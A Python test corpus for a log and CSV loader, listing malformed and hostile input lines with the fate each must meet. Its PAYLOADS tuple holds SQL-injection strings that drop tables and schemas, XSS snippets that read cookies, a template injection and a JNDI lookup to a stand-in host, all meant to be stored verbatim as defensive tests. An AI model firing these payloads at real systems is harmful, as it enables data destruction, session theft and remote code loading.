"""A corpus of hostile input lines for the loader, each with the fate it must meet.

Every case is one physical line. `expect` is what the rejection rules of docs/data-contract.md
and the loader's documented rules (`fxa_pipeline/normalise.py`, docs/loader.md) make of it:
- `loaded`: stored in `raw.flow_events` / `raw.activity_events` (`stored` lists column values
  that must come back byte-identical);
- `rejected`: stored in `raw.rejected_lines` with a reason (`reason` is a substring it must hold);
- `ignored`: counted only;
- `any`: the rules leave it open; only the invariants are checked (no crash, every line
  accounted for exactly once, a reason on every rejection).

The log corpus goes into one JSON-lines file, the CSV corpora into one file per export; the
first line of each file is a valid line so that format detection sees the intended format.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Literal

Expect = Literal["loaded", "rejected", "ignored", "any"]

FLOW_ID = "f3f49249dc28ff90a5aec7978306d03bf38b2ffc80a4df5a51c9bc701e7ea419"
UID = "0123456789abcdef0123456789abcdef"
DEVICE_ID = "fedcba9876543210fedcba9876543210"
USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:50.0) Gecko/20100101 Firefox/50.0"
TIME_MS = 1479834000123  # 2016-11-22T17:00:00.123Z
TIMESTAMP_NS = 1479834000123000000

# Payloads the old pipeline's logs really carried in free-text fields; valid string values, to
# be stored verbatim and never executed.
PAYLOADS = (
    "'); drop table raw.flow_events; --",
    '\'; drop table "raw".load_ledger; --',
    "1' or '1'='1",
    "\\'; delete from raw.activity_events where ''='",
    "$$; drop schema raw cascade; $$",
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ var('x') }}{% raise %}",
    "${jndi:ldap://evil.invalid/a}",
    "%s%s%s%n %x",
    "\u202egnp.exe \u0130\u00df\U0001f600",
    "a,b\tc",
    "robert'); DROP TABLE Students;--",
)

# Free-text string fields stored as logged, and their column in raw.flow_events.
FLOW_TEXT_COLUMNS = {
    "service": "service",
    "context": "context",
    "entrypoint": "entrypoint",
    "migration": "migration",
    "locale": "locale",
    "event": "type",
}
UTM_FIELDS = ("utm_campaign", "utm_content", "utm_medium", "utm_source", "utm_term")


@dataclass
class Case:
    name: str
    line: bytes
    expect: Expect
    reason: str = ""  # a substring of the rejection reason
    stored: dict[str, object] = field(default_factory=dict)  # column -> value (loaded cases)


def flow_fields(**changes: object) -> dict[str, object]:
    fields: dict[str, object] = {
        "event": "account.created",
        "flow_id": FLOW_ID,
        "flow_time": 5321,
        "time": TIME_MS,
        "userAgent": USER_AGENT,
        "locale": "en-US",
        "uid": UID,
        "service": "sync",
        "context": "fx_desktop_v3",
        "entrypoint": "menupanel",
        "migration": "sync11",
        "utm_campaign": "fx-new-tab",
        "utm_content": "c1",
        "utm_medium": "email",
        "utm_source": "newsletter",
        "utm_term": "t1",
    }
    fields.update(changes)
    return fields


def activity_fields(**changes: object) -> dict[str, object]:
    fields: dict[str, object] = {
        "event": "account.signed",
        "uid": UID,
        "device_id": DEVICE_ID,
        "service": "sync",
        "userAgent": USER_AGENT,
        "time": TIME_MS,
    }
    fields.update(changes)
    return fields


def envelope(fields: object, type_: object = "flowEvent", **changes: object) -> dict[str, object]:
    doc: dict[str, object] = {
        "Timestamp": TIMESTAMP_NS,
        "Logger": "fxa-auth-server",
        "Type": type_,
        "Severity": 6,
        "Pid": 4711,
        "EnvVersion": "2.0",
        "Hostname": "auth1",
        "Fields": fields,
    }
    doc.update(changes)
    return doc


def dumps(doc: object) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def without(fields: dict[str, object], *names: str) -> dict[str, object]:
    return {k: v for k, v in fields.items() if k not in names}


def log_cases() -> list[Case]:
    cases: list[Case] = []

    def add(name: str, line: bytes, expect: Expect, reason: str = "", **stored: object) -> None:
        cases.append(Case(name, line, expect, reason, stored))

    valid_flow = dumps(envelope(flow_fields()))
    add("valid flow event", valid_flow, "loaded", type="account.created", flow_time=5321)
    add("valid activity event", dumps(envelope(activity_fields(), "activityEvent")), "loaded")
    add(
        "request log line of another Type",
        dumps(envelope({"op": "request.summary"}, "request.summary")),
        "ignored",
    )
    add("blank line", b"", "ignored")
    add("whitespace-only line", b" \t ", "ignored")

    # Truncated JSON: the valid line cut at ten places.
    for i in range(1, 11):
        cut = len(valid_flow) * i // 11
        add(f"truncated JSON at byte {cut}", valid_flow[:cut], "rejected")
    add("JSON with trailing garbage", valid_flow + b" xyz", "rejected")
    add("two JSON objects on one line", valid_flow + valid_flow, "rejected")
    add("only a brace", b"{", "rejected", "JSON")
    add("NaN literal", valid_flow.replace(b'"flow_time": 5321', b'"flow_time": NaN'), "rejected")

    # Invalid UTF-8 and NUL bytes.
    for label, bad in (
        ("0xff 0xfe", b"\xff\xfe"),
        ("lone continuation byte", b"\x80"),
        ("overlong encoding", b"\xc0\xaf"),
        ("UTF-16 surrogate", b"\xed\xa0\x80"),
        ("cut multibyte sequence", b"\xe2\x82"),
    ):
        add(
            f"invalid UTF-8 ({label}) in service",
            valid_flow.replace(b'"sync"', b'"sy' + bad + b'nc"'),
            "rejected",
            "UTF-8",
        )
    add(
        "invalid UTF-8 in an ignored Type",
        dumps(envelope({"x": 1}, "request.summary"))[:-2] + b'"\xff"}',
        "rejected",
    )
    add("raw NUL byte in service", valid_flow.replace(b'"sync"', b'"sy\x00nc"'), "rejected", "NUL")
    add("raw NUL byte at line start", b"\x00" + valid_flow, "rejected", "NUL")
    add("escaped NUL in service", dumps(envelope(flow_fields(service="sy\u0000nc"))), "rejected")
    add("escaped NUL in an unknown field", dumps(envelope(flow_fields(extra="\u0000"))), "any")

    # 1 MB lines.
    mb = 1 << 20
    add("1 MB user agent", dumps(envelope(flow_fields(userAgent="Mozilla/5.0 " + "A" * mb))), "any")
    add("1 MB service", dumps(envelope(flow_fields(service="s" * mb))), "rejected", "longer than")
    add("1 MB unknown field", dumps(envelope(flow_fields(padding="p" * mb))), "loaded")
    add("1 MB of garbage", b"x" * mb, "rejected")
    add(
        "1 MB line of another Type",
        dumps(envelope({"blob": "b" * mb}, "request.summary")),
        "ignored",
    )
    add("1 MB flow_id", dumps(envelope(flow_fields(flow_id="a" * mb))), "rejected")

    # Wrong types in every field.
    for name in flow_fields():
        for label, value in (("an object", {"a": 1}), ("an array", [1, 2]), ("a boolean", True)):
            expect: Expect = "rejected"
            if name == "time":
                expect = "rejected"
            add(
                f"flow field {name} is {label}",
                dumps(envelope(flow_fields(**{name: value}))),
                expect,
            )
    for name in activity_fields():
        add(
            f"activity field {name} is an object",
            dumps(envelope(activity_fields(**{name: {"a": [1]}}), "activityEvent")),
            "rejected",
        )
    # A JSON number in a string field is kept as its text.
    add(
        "service is a number",
        dumps(envelope(flow_fields(service=12345))),
        "loaded",
        service="12345",
    )
    add("event is a number", dumps(envelope(flow_fields(event=42))), "loaded", type="42")
    add("locale is a float", dumps(envelope(flow_fields(locale=1.5))), "loaded")
    add(
        "utm_source is a number",
        dumps(envelope(flow_fields(utm_source=7))),
        "loaded",
        utm_source="7",
    )
    add("flow_id is a number", dumps(envelope(flow_fields(flow_id=12345))), "rejected", "flow_id")
    add("uid is a number", dumps(envelope(activity_fields(uid=12345), "activityEvent")), "loaded")
    add(
        "device_id is a number",
        dumps(envelope(activity_fields(device_id=123), "activityEvent")),
        "rejected",
        "device_id",
    )
    add(
        "flow_time is a word",
        dumps(envelope(flow_fields(flow_time="abc"))),
        "rejected",
        "flow_time",
    )
    add("time is a word", dumps(envelope(flow_fields(time="yesterday"))), "rejected", "time")
    add(
        "Timestamp is a word and no time",
        dumps(envelope(without(flow_fields(), "time"), Timestamp="x")),
        "rejected",
        "time",
    )
    add(
        "Timestamp is an object and no time",
        dumps(envelope(without(flow_fields(), "time"), Timestamp={})),
        "rejected",
        "time",
    )
    add("Type is a number", dumps(envelope(flow_fields(), 7)), "any")
    add("Type is an object", dumps(envelope(flow_fields(), {"a": 1})), "any")
    add("Type is null", dumps(envelope(flow_fields(), None)), "any")
    add("Fields is a string", dumps(envelope("account.created")), "rejected")
    add("Fields is an array", dumps(envelope([flow_fields()])), "rejected")
    add("Fields is null", dumps(envelope(None)), "rejected")
    for label, doc in (
        ("an array", [1, 2]),
        ("a string", "flowEvent"),
        ("a number", 5),
        ("null", None),
    ):
        add(f"line is JSON {label}", dumps(doc), "rejected")
    add("every field null", dumps(envelope(dict.fromkeys(flow_fields()))), "rejected")
    add(
        "every field an empty string", dumps(envelope(dict.fromkeys(flow_fields(), ""))), "rejected"
    )
    add("every field 'none'", dumps(envelope(dict.fromkeys(flow_fields(), "none"))), "rejected")

    # Missing fields, one at a time.
    required = {"event": "event", "flow_id": "flow_id"}
    for name in flow_fields():
        if name in required:
            add(
                f"flow event without {name}",
                dumps(envelope(without(flow_fields(), name))),
                "rejected",
                required[name],
            )
        else:
            add(
                f"flow event without {name}",
                dumps(envelope(without(flow_fields(), name))),
                "loaded",
            )
    add(
        "flow event without time and Timestamp",
        dumps(without(envelope(without(flow_fields(), "time")), "Timestamp")),
        "rejected",
        "time",
    )
    add("flow event without Fields", dumps(without(envelope(flow_fields()), "Fields")), "rejected")
    add("flow event without Type", dumps(without(envelope(flow_fields()), "Type")), "any")
    add(
        "activity event without uid",
        dumps(envelope(without(activity_fields(), "uid"), "activityEvent")),
        "rejected",
        "uid",
    )
    add(
        "activity event without device_id",
        dumps(envelope(without(activity_fields(), "device_id"), "activityEvent")),
        "loaded",
        device_id=None,
    )
    add(
        "activity event without event",
        dumps(envelope(without(activity_fields(), "event"), "activityEvent")),
        "rejected",
        "event",
    )
    add("empty object", b"{}", "any")

    # Numbers as strings.
    add(
        "flow_time as a string of digits",
        dumps(envelope(flow_fields(flow_time="5321"))),
        "loaded",
        flow_time=5321,
    )
    add("flow_time as a padded string", dumps(envelope(flow_fields(flow_time=" 5321"))), "any")
    add("time as a string of digits", dumps(envelope(flow_fields(time=str(TIME_MS)))), "any")
    add(
        "Timestamp as a string",
        dumps(envelope(without(flow_fields(), "time"), Timestamp=str(TIMESTAMP_NS))),
        "any",
    )
    add(
        "flow_id in upper case",
        dumps(envelope(flow_fields(flow_id=FLOW_ID.upper()))),
        "loaded",
        flow_id=FLOW_ID,
    )

    # flow_time: negative, huge, float.
    for value, expect in (
        (-1, "rejected"),
        (-(2**63), "rejected"),
        (0, "loaded"),
        (12.5, "rejected"),
        (5321.0, "loaded"),
        (-0.0, "any"),
        (1e20, "rejected"),
        (2**63 - 1, "any"),
        (2**63, "rejected"),
        (10**40, "rejected"),
        (1e308, "rejected"),
    ):
        add(
            f"flow_time {value!r}",
            dumps(envelope(flow_fields(flow_time=value))),
            expect,
            "flow_time" if expect == "rejected" else "",
        )  # type: ignore[arg-type]
    add(
        "flow_time 1e400 (infinite)",
        valid_flow.replace(b'"flow_time": 5321', b'"flow_time": 1e400'),
        "rejected",
    )

    # Times in the future, before 2000, and out of any range.
    for label, value, expect in (
        ("2099-12-31 ISO", "2099-12-31T23:59:59.999Z", "loaded"),
        ("2100-01-01 ISO", "2100-01-01T00:00:00.000Z", "rejected"),
        ("year 9999 ISO", "9999-12-31T23:59:59Z", "rejected"),
        ("1999-12-31 ISO", "1999-12-31T23:59:59.999Z", "rejected"),
        ("2000-01-01 ISO", "2000-01-01T00:00:00.000Z", "loaded"),
        ("ISO with an offset", "2016-11-22T18:00:00.123+01:00", "loaded"),
        ("impossible ISO date", "2016-13-45T99:99:99Z", "rejected"),
        ("future ms (2090)", 3786912000000, "loaded"),
        ("epoch 0 ms", 0, "rejected"),
        ("negative ms", -1479834000123, "rejected"),
        ("huge ms", 10**30, "rejected"),
        ("float ms", 1479834000123.75, "loaded"),
        ("seconds instead of ms (1970)", 915148800, "rejected"),
    ):
        add(
            f"time {label}",
            dumps(envelope(flow_fields(time=value))),
            expect,
            "time" if expect == "rejected" else "",
        )  # type: ignore[arg-type]
    for label, value, expect in (
        ("future ns (2090)", 3786912000000000000, "loaded"),
        ("ns before 2000", 915148800000000000, "rejected"),
        ("negative ns", -1, "rejected"),
        ("ns beyond int64", 2**70, "rejected"),
    ):
        add(
            f"Timestamp {label}",
            dumps(envelope(without(flow_fields(), "time"), Timestamp=value)),
            expect,
            "time" if expect == "rejected" else "",
        )  # type: ignore[arg-type]
    add(
        "ISO time wins over Timestamp",
        dumps(envelope(flow_fields(time="2016-11-22T17:00:00.123Z"), Timestamp=1)),
        "loaded",
    )

    # Injection and HTML payloads in every string field: valid values, stored verbatim.
    for payload in PAYLOADS:
        for name, column in FLOW_TEXT_COLUMNS.items():
            add(
                f"payload {payload!r} in {name}",
                dumps(envelope(flow_fields(**{name: payload}))),
                "loaded",
                **{column: payload},
            )
        for name in UTM_FIELDS:  # fails the utm pattern: NULL, the line still loads
            add(
                f"payload {payload!r} in {name}",
                dumps(envelope(flow_fields(**{name: payload}))),
                "loaded",
                **{name: None},
            )
        add(
            f"payload {payload!r} as userAgent",
            dumps(envelope(flow_fields(userAgent=payload))),
            "loaded",
        )
        add(
            f"payload {payload!r} as uid",
            dumps(envelope(activity_fields(uid=payload), "activityEvent")),
            "loaded",
        )
        add(
            f"payload {payload!r} as activity service",
            dumps(envelope(activity_fields(service=payload), "activityEvent")),
            "loaded",
            service=payload,
        )
        add(
            f"payload {payload!r} as flow_id",
            dumps(envelope(flow_fields(flow_id=payload))),
            "rejected",
            "flow_id",
        )
        add(f"payload {payload!r} as Type", dumps(envelope(flow_fields(), payload)), "ignored")
        add(f"payload {payload!r} as a whole line", payload.encode("utf-8"), "rejected")

    # The text-prefixed mode with hostile content.
    fields = json.dumps(flow_fields(service=PAYLOADS[0]))
    add(
        "text mode, payload in service",
        f"fxa-auth-server.INFO: flowEvent {fields}".encode(),
        "loaded",
        service=PAYLOADS[0],
    )
    add(
        "text mode, truncated object",
        f"fxa-auth-server.INFO: flowEvent {fields[:40]}".encode(),
        "rejected",
    )
    add(
        "text mode, other Type",
        f"fxa-auth-server.INFO: request.summary {fields}".encode(),
        "ignored",
    )
    add("text mode, no object", b"fxa-auth-server.INFO: flowEvent", "rejected")
    add("carriage return line end", valid_flow + b"\r", "loaded")
    return cases


FLOW_CSV = (
    "1479834000,flow.begin,{fid},0,Firefox,50,Windows,fx_desktop_v3,menupanel,,sync,"
    "fx-new-tab,,email,newsletter,,en-US,{uid}"
)
FLOW_CSV_COLUMNS = (
    "timestamp",
    "type",
    "flow_id",
    "flow_time",
    "ua_browser",
    "ua_version",
    "ua_os",
    "context",
    "entrypoint",
    "migration",
    "service",
    "utm_campaign",
    "utm_content",
    "utm_medium",
    "utm_source",
    "utm_term",
    "locale",
    "uid",
)
ACTIVITY_CSV = "1479834000,Firefox,50,Windows,{uid},account.signed,sync,{dev}"
HMACED_UID = "7db4304de01c683e99a46df0dde3a361c0099ebacd73de0081a0ba056ce9da66"


def _flow_row(**changes: str) -> list[str]:
    row = FLOW_CSV.format(fid=FLOW_ID, uid=HMACED_UID).split(",")
    names = FLOW_CSV_COLUMNS
    for name, value in changes.items():
        row[names.index(name)] = value
    return row


def _csv(row: list[str]) -> bytes:
    out = []
    for value in row:
        if any(c in value for c in ',"\n\r') or value != value.strip():
            value = '"' + value.replace('"', '""') + '"'
        out.append(value)
    return ",".join(out).encode("utf-8")


def flow_csv_cases() -> list[Case]:
    cases: list[Case] = []

    def add(name: str, line: bytes, expect: Expect, reason: str = "", **stored: object) -> None:
        cases.append(Case(name, line, expect, reason, stored))

    row = _flow_row()
    add("csv: valid 18 columns", _csv(row), "loaded", type="flow.begin")
    add("csv: valid 16 columns", _csv(row[:16]), "loaded", locale=None, uid=None)
    for n in (1, 2, 15, 17, 19, 30):
        add(f"csv: {n} columns", _csv((row * 2)[:n]), "rejected")
    # 7 or 8 columns fit the activity export: whether a flow file's row may be one is open.
    for n in (7, 8):
        add(f"csv: {n} columns in a flow file", _csv(row[:n]), "any")
    add("csv: all 18 columns empty", b"," * 17, "rejected")
    add("csv: unterminated quote", _csv(row)[:-3] + b'"abc', "rejected")
    add("csv: stray quote inside a field", _csv(row).replace(b"Firefox", b'Fire"fox'), "any")
    add("csv: quote after a closing quote", _csv(row).replace(b"Firefox", b'"Fire"fox'), "any")
    add("csv: quoted comma in context", _csv(_flow_row(context="a,b")), "loaded", context="a,b")
    add("csv: doubled quotes", _csv(_flow_row(context='say "hi"')), "loaded", context='say "hi"')
    for payload in PAYLOADS:
        for name in ("service", "context", "entrypoint", "migration", "locale", "type"):
            add(
                f"csv: payload {payload!r} in {name}",
                _csv(_flow_row(**{name: payload})),
                "loaded",
                **{name: payload},
            )
    add("csv: negative flow_time", _csv(_flow_row(flow_time="-5")), "rejected", "flow_time")
    add("csv: float flow_time", _csv(_flow_row(flow_time="5.5")), "rejected", "flow_time")
    add("csv: huge flow_time", _csv(_flow_row(flow_time="9" * 30)), "rejected", "flow_time")
    add("csv: word timestamp", _csv(_flow_row(timestamp="noon")), "rejected", "time")
    add("csv: timestamp before 2000", _csv(_flow_row(timestamp="915148800")), "rejected", "time")
    add(
        "csv: timestamp in ms (far future)",
        _csv(_flow_row(timestamp="1479834000123")),
        "rejected",
        "time",
    )
    add("csv: future timestamp (2090)", _csv(_flow_row(timestamp="3786912000")), "loaded")
    add("csv: short flow_id", _csv(_flow_row(flow_id="abc")), "rejected", "flow_id")
    add("csv: missing type", _csv(_flow_row(type="")), "rejected")
    add(
        "csv: none placeholders",
        _csv(_flow_row(context="none", service="none")),
        "loaded",
        context=None,
        service=None,
    )
    add("csv: invalid UTF-8", _csv(row).replace(b"Firefox", b"Fire\xfffox"), "rejected", "UTF-8")
    add("csv: NUL byte", _csv(row).replace(b"Firefox", b"Fire\x00fox"), "rejected", "NUL")
    add("csv: a JSON line inside a CSV file", dumps(envelope(flow_fields())), "rejected")
    add("csv: 1 MB field", _csv(_flow_row(context="c" * (1 << 20))), "rejected", "longer than")
    add("csv: blank line", b"", "ignored")
    return cases


def activity_csv_cases() -> list[Case]:
    cases: list[Case] = []

    def add(name: str, line: bytes, expect: Expect, reason: str = "", **stored: object) -> None:
        cases.append(Case(name, line, expect, reason, stored))

    row = ACTIVITY_CSV.format(uid=HMACED_UID, dev=DEVICE_ID).split(",")
    add("activity csv: valid 8 columns", _csv(row), "loaded", device_id=DEVICE_ID)
    add("activity csv: valid 7 columns", _csv(row[:7]), "loaded", device_id=None)
    for n in (6, 9):
        add(f"activity csv: {n} columns", _csv((row * 2)[:n]), "rejected")
    add("activity csv: short device_id", _csv([*row[:7], "abc"]), "rejected", "device_id")
    add("activity csv: missing uid", _csv([*row[:4], "", *row[5:]]), "rejected", "uid")
    for payload in PAYLOADS:
        add(
            f"activity csv: payload {payload!r} in service",
            _csv([*row[:6], payload, row[7]]),
            "loaded",
            service=payload,
        )
    return cases
